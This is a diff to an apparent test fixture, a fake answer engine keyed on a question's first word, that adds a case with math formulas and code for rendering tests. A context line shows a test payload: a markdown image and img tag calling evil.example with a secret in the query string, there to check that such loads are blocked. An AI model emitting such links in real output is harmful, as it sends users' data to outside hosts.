@@ -2,7 +2,7 @@
 
 A question decides what happens: "slow ..." writes a word at a time until it is stopped, "nothing ..." is refused,
 "broken ..." fails, "crash ..." fails in a way nobody foresaw, "evil ..." tries to load what it must not, "doubtful
-..." says what its quotes do not; everything else is answered at once.
+..." says what its quotes do not, "formula ..." has formulas and code; everything else is answered at once.
 """
 
 import json
@@ -193,6 +193,19 @@ EVIL_TEXT = """![leak](https://evil.example/?q=secret) <img src="https://evil.ex
 """
 
 
+FORMULA_TEXT = r"""Perplexity is $2^{H(p)}$, not $5 to $10:[1]
+
+$$H(p) = -\sum_{x} p(x) \log_2 p(x)$$
+
+This one cannot be set: $\frac{1$.[2]
+
+```python
+def perplexity(loss):
+    return exp(loss)
+```
+"""
+
+
 @dataclass
 class FakeEngine:
     """Its version is whatever is live when it is asked."""
@@ -221,6 +234,8 @@ class FakeEngine:
                 raise ZeroDivisionError("secret detail")
             case "evil":
                 yield Done(_answer(EVIL_TEXT))
+            case "formula":
+                yield Done(_answer(FORMULA_TEXT))
             case "doubtful":
                 yield Done(replace(_answer(DOUBTFUL_TEXT), sentences=DOUBTFUL, writer="claude", dropped=2))
             case "slow":
